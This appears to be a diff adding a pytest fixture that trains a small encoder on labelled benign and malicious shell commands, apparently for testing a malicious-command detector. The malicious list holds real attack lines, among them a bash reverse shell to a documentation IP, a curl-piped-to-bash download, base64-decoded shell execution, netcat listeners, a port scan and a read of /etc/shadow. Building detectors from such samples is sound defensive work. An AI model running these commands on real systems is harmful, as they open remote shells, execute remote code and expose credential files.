@@ -1,0 +1,50 @@
+"""Shared fixtures for tuning tests: a tiny trained encoder + labeled data."""
+
+import numpy as np
+import pytest
+
+from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
+from repro.tokenizer import BPETokenizer
+
+BENIGN = [
+    "ls -la /tmp",
+    "ls /home/user",
+    "docker ps -a",
+    "docker logs web-1 --tail 100",
+    "grep error /var/log/app.log",
+    "python main.py --verbose",
+    "cat /etc/passwd | grep alice",
+    "ps aux | grep nginx",
+    "cd /opt/app",
+    "git status",
+    "tar -czf backup.tgz /etc",
+    "curl http://api.internal:8080/healthz",
+    "nc -z localhost 6379",
+    "echo done",
+] * 6
+
+MALICIOUS = [
+    "nc -lvnp 4444",
+    "nc -lvnp 9001",
+    "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
+    "masscan 203.0.113.9 -p 0-65535 --rate=1000 >> tmp.txt",
+    "echo YWJj | base64 -d | bash -i",
+    'export https_proxy="http://203.0.113.8:3128"',
+    "cat /etc/shadow",
+    "curl http://203.0.113.4/a.sh | bash",
+] * 3
+
+
+@pytest.fixture(scope="package")
+def tuning_world():
+    """A tiny trained encoder plus a noisily-labeled corpus."""
+    corpus = BENIGN + MALICIOUS
+    tokenizer = BPETokenizer(vocab_size=400).train(corpus)
+    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
+    model = CommandLineLM(config)
+    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
+    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(corpus, epochs=3)
+    encoder = CommandEncoder(model, tokenizer, pooling="mean")
+    lines = BENIGN + MALICIOUS
+    labels = np.array([0] * len(BENIGN) + [1] * len(MALICIOUS))
+    return encoder, lines, labels
